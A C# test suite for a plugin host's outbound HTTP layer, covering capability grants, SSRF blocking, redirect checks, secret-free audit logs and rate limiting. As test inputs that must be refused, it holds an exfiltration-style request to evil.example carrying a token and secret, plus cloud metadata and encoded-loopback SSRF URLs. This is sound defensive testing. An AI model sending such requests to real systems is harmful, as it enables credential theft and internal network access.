using System.Net;
using System.Threading.RateLimiting;
using Microsoft.Extensions.Time.Testing;
using Carapace.Abstractions;
using Carapace.Abstractions.Http;
using Carapace.Host.Audit;
using Carapace.Host.Outbound;
using NSubstitute;

namespace Carapace.Host.Tests.Outbound;

public sealed class PluginHttpTests
{
    private readonly IAuditLog _audit = Substitute.For<IAuditLog>();
    private readonly FakeTimeProvider _time = new();

    private PluginHttpFactory Factory(SafeHttp http, int perMinute = 100) => new(http, _audit, perMinute, _time);

    private void AssertAudited(string pluginId, Func<string, bool> reason, int times = 1) =>
        _audit.Received(times).Write(
            AuditEvents.CapabilityDenied,
            Arg.Is<IReadOnlyDictionary<string, object?>>(d =>
                (string?)d["plugin_id"] == pluginId && (string?)d["capability"] == "http" && reason((string)d["reason"]!)));

    [Fact]
    public async Task Plugin_without_the_http_capability_is_denied_and_audited()
    {
        using var http = OutboundTestKit.SafeHttp(new FakeResolver());
        using var factory = Factory(http);
        var pluginHttp = factory.Create("weather", null);

        var ex = await Assert.ThrowsAsync<CapabilityDeniedException>(
            () => pluginHttp.SendAsync(new PluginHttpRequest("GET", "https://api.example.com/"), CancellationToken.None));

        Assert.Equal("weather", ex.PluginId);
        Assert.Equal("http", ex.Capability);
        AssertAudited("weather", r => r.Contains("not granted", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Url_outside_the_grants_is_denied_and_the_audit_never_holds_the_query_or_path()
    {
        using var http = OutboundTestKit.SafeHttp(new FakeResolver());
        using var factory = Factory(http);
        var pluginHttp = factory.Create("weather", ["https://api.weather.example/v1"]);

        var ex = await Assert.ThrowsAsync<CapabilityDeniedException>(() => pluginHttp.SendAsync(
            new PluginHttpRequest("GET", "https://evil.example/bot123:TOKEN/send?key=SECRET"), CancellationToken.None));

        Assert.DoesNotContain("SECRET", ex.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("TOKEN", ex.Message, StringComparison.Ordinal);
        AssertAudited("weather", r => r.Contains("evil.example", StringComparison.Ordinal)
            && !r.Contains("SECRET", StringComparison.Ordinal) && !r.Contains("TOKEN", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Granted_url_goes_through_the_guard_to_the_server()
    {
        await using var server = LoopbackServer.Respond(IPAddress.Loopback, 200, "hello");
        using var http = OutboundTestKit.SafeHttp(new FakeResolver(), allowPrivate: ["127.0.0.1"]);
        using var factory = Factory(http);
        var pluginHttp = factory.Create("lan-tool", [$"http://127.0.0.1:{server.Port}/api"]);

        var response = await pluginHttp.SendAsync(
            new PluginHttpRequest("GET", $"http://127.0.0.1:{server.Port}/api/status"), CancellationToken.None);

        Assert.Equal("hello", System.Text.Encoding.UTF8.GetString(response.Body.Span));
        _audit.DidNotReceiveWithAnyArgs().Write(default!, default!);
    }

    [Fact]
    public async Task A_grant_does_not_override_the_ssrf_guard_and_the_attempt_is_audited()
    {
        using var http = OutboundTestKit.SafeHttp(new FakeResolver().Map("sneaky.example", "169.254.169.254"));
        using var factory = Factory(http);
        var pluginHttp = factory.Create("greedy", ["http://*"]);

        var ex = await Assert.ThrowsAsync<OutboundRequestRejectedException>(() => pluginHttp.SendAsync(
            new PluginHttpRequest("GET", "http://sneaky.example/latest/meta-data?x=SECRET"), CancellationToken.None));

        Assert.Equal(OutboundErrorCodes.SsrfBlocked, ex.Code);
        AssertAudited("greedy", r => r.StartsWith("ssrf_blocked", StringComparison.Ordinal) && !r.Contains("SECRET", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("http://169.254.169.254/latest/meta-data?x=SECRET")]
    [InlineData("http://localhost/admin?x=SECRET")]
    [InlineData("http://2130706433/?x=SECRET")]
    public async Task Private_literals_and_blocked_names_refused_before_lookup_are_audited_too(string url)
    {
        using var http = OutboundTestKit.SafeHttp(new FakeResolver());
        using var factory = Factory(http);
        var pluginHttp = factory.Create("greedy", ["http://*"]);

        var ex = await Assert.ThrowsAsync<OutboundRequestRejectedException>(() => pluginHttp.SendAsync(
            new PluginHttpRequest("GET", url), CancellationToken.None));

        Assert.Equal(OutboundErrorCodes.SsrfBlocked, ex.Code);
        AssertAudited("greedy", r => r.StartsWith("ssrf_blocked", StringComparison.Ordinal) && !r.Contains("SECRET", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Redirect_to_an_ungranted_host_is_denied_before_it_is_contacted()
    {
        await using var other = LoopbackServer.Respond(IPAddress.Parse("127.0.0.2"), 200);
        await using var granted = LoopbackServer.Respond(
            IPAddress.Loopback, 302, "", $"Location: http://127.0.0.2:{other.Port}/\r\n");
        using var http = OutboundTestKit.SafeHttp(new FakeResolver(), allowPrivate: ["127.0.0.0/8"]);
        using var factory = Factory(http);
        var pluginHttp = factory.Create("hopper", [$"http://127.0.0.1:{granted.Port}"]);

        await Assert.ThrowsAsync<CapabilityDeniedException>(() => pluginHttp.SendAsync(
            new PluginHttpRequest("GET", $"http://127.0.0.1:{granted.Port}/") { FollowRedirects = true }, CancellationToken.None));

        Assert.Equal(0, other.AcceptedConnections);
        AssertAudited("hopper", r => r.StartsWith("redirect to", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Rate_limit_denies_past_the_budget_audits_once_per_burst_and_recovers_when_the_window_slides()
    {
        await using var server = new LoopbackServer(IPAddress.Loopback, (_, stream, ct) => LoopbackServer.WriteAsync(stream, 200, "ok", "", ct));
        using var http = OutboundTestKit.SafeHttp(new FakeResolver(), allowPrivate: ["127.0.0.1"]);
        using var factory = Factory(http, perMinute: 3);
        var pluginHttp = factory.Create("chatty", [$"http://127.0.0.1:{server.Port}"]);
        var request = new PluginHttpRequest("GET", $"http://127.0.0.1:{server.Port}/");

        for (var i = 0; i < 3; i++)
        {
            Assert.Equal(200, (await pluginHttp.SendAsync(request, CancellationToken.None)).StatusCode);
        }

        var denied = await Assert.ThrowsAsync<CapabilityDeniedException>(() => pluginHttp.SendAsync(request, CancellationToken.None));
        Assert.Contains("rate limit", denied.Reason, StringComparison.Ordinal);
        await Assert.ThrowsAsync<CapabilityDeniedException>(() => pluginHttp.SendAsync(request, CancellationToken.None));
        AssertAudited("chatty", r => r.Contains("rate limit", StringComparison.Ordinal), times: 1);
        Assert.Equal(3, server.AcceptedConnections);

        // The window rolls: just short of a minute nothing is back, at a minute the permits return.
        _time.Advance(TimeSpan.FromSeconds(59));
        await Assert.ThrowsAsync<CapabilityDeniedException>(() => pluginHttp.SendAsync(request, CancellationToken.None));
        _time.Advance(TimeSpan.FromSeconds(1));
        Assert.Equal(200, (await pluginHttp.SendAsync(request, CancellationToken.None)).StatusCode);

        // A new burst is audited again.
        for (var i = 0; i < 2; i++)
        {
            await pluginHttp.SendAsync(request, CancellationToken.None);
        }

        await Assert.ThrowsAsync<CapabilityDeniedException>(() => pluginHttp.SendAsync(request, CancellationToken.None));
        AssertAudited("chatty", r => r.Contains("rate limit", StringComparison.Ordinal), times: 2);
    }

    [Fact]
    public void Default_rate_limit_is_100_requests_in_any_rolling_minute()
    {
        using var limiter = PluginHttpFactory.CreateLimiter(100, _time);
        for (var i = 0; i < 60; i++)
        {
            using var lease = limiter.AttemptAcquire();
            Assert.True(lease.IsAcquired);
        }

        _time.Advance(TimeSpan.FromSeconds(30));
        for (var i = 0; i < 40; i++)
        {
            using var lease = limiter.AttemptAcquire();
            Assert.True(lease.IsAcquired);
        }

        using (var over = limiter.AttemptAcquire())
        {
            Assert.False(over.IsAcquired);
            Assert.True(over.TryGetMetadata(MetadataName.RetryAfter, out var retryAfter));
            Assert.Equal(TimeSpan.FromSeconds(30), retryAfter);
        }

        // The first 60 age out after a minute; the later 40 still count.
        _time.Advance(TimeSpan.FromSeconds(30));
        for (var i = 0; i < 60; i++)
        {
            using var lease = limiter.AttemptAcquire();
            Assert.True(lease.IsAcquired);
        }

        using var stillOver = limiter.AttemptAcquire();
        Assert.False(stillOver.IsAcquired);
        Assert.Equal(0, limiter.GetStatistics()!.CurrentAvailablePermits);
    }

    [Fact]
    public async Task Recreating_a_plugin_keeps_its_rate_limit_budget()
    {
        using var http = OutboundTestKit.SafeHttp(new FakeResolver());
        using var factory = Factory(http, perMinute: 1);
        var request = new PluginHttpRequest("GET", "https://api.example.com/");
        // The first request spends the only permit (and fails to resolve: no network needed).
        await Assert.ThrowsAsync<OutboundRequestRejectedException>(
            () => factory.Create("reloader", ["https://api.example.com"]).SendAsync(request, CancellationToken.None));

        var reloaded = factory.Create("reloader", ["https://api.example.com"]);
        var denied = await Assert.ThrowsAsync<CapabilityDeniedException>(() => reloaded.SendAsync(request, CancellationToken.None));
        Assert.Contains("rate limit", denied.Reason, StringComparison.Ordinal);

        var other = factory.Create("other", ["https://api.example.com"]);
        await Assert.ThrowsAsync<OutboundRequestRejectedException>(() => other.SendAsync(request, CancellationToken.None));
    }

    [Fact]
    public void Invalid_grant_patterns_fail_plugin_creation()
    {
        using var http = OutboundTestKit.SafeHttp(new FakeResolver());
        using var factory = Factory(http);
        Assert.Throws<FormatException>(() => factory.Create("bad", ["https://*.*.example.com"]));
    }
}
